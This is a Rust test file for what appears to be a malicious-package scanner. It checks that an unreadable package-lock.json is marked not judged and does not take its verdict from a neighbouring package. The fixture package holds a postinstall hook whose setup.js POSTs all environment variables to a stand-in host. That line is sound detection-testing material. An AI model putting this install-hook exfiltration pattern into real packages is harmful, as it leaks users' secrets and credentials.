use super::*;
use clap::Parser;

#[derive(Parser)]
struct Line {
    #[command(flatten)]
    arguments: Arguments,
}

fn gathered(here: &Path, targets: &[&str]) -> Result<Vec<Inspected>, Failure> {
    let paths = targets
        .iter()
        .map(|name| here.join(name).display().to_string());
    let line = ["inspect".to_owned()].into_iter().chain(paths);
    gather(&Line::parse_from(line).arguments, here)
}

#[test]
fn a_lockfile_that_cannot_be_read_takes_no_verdict_from_the_others() {
    let folder = tempfile::tempdir().unwrap();
    let here = folder.path();
    std::fs::create_dir_all(here.join("sends")).unwrap();
    std::fs::create_dir_all(here.join("bad")).unwrap();
    let manifest = r#"{"scripts": {"postinstall": "node setup.js"}}"#;
    std::fs::write(here.join("sends/package.json"), manifest).unwrap();
    let code =
        "fetch('https://collect.invalid', {method: 'POST', body: JSON.stringify(process.env)});";
    std::fs::write(here.join("sends/setup.js"), code).unwrap();
    std::fs::write(here.join("bad/package-lock.json"), "{ not JSON").unwrap();

    for targets in [
        ["sends", "bad/package-lock.json"],
        ["bad/package-lock.json", "sends"],
    ] {
        let all = gathered(here, &targets).unwrap();
        let standings: Vec<_> = all.iter().map(|one| one.verdict.standing).collect();
        assert_eq!(standings, [Standing::Malicious, Standing::NotJudged]);
        assert!(all[1].name.ends_with("package-lock.json"));
        assert!(!all[1].verdict.not_checked[0].is_empty());
        assert_eq!(worst(&all), 1);
    }
    // Alone it is work that could not be done.
    let alone = gathered(here, &["bad/package-lock.json"]);
    assert_eq!(alone.err().map(|failure| failure.code), Some(4));
}
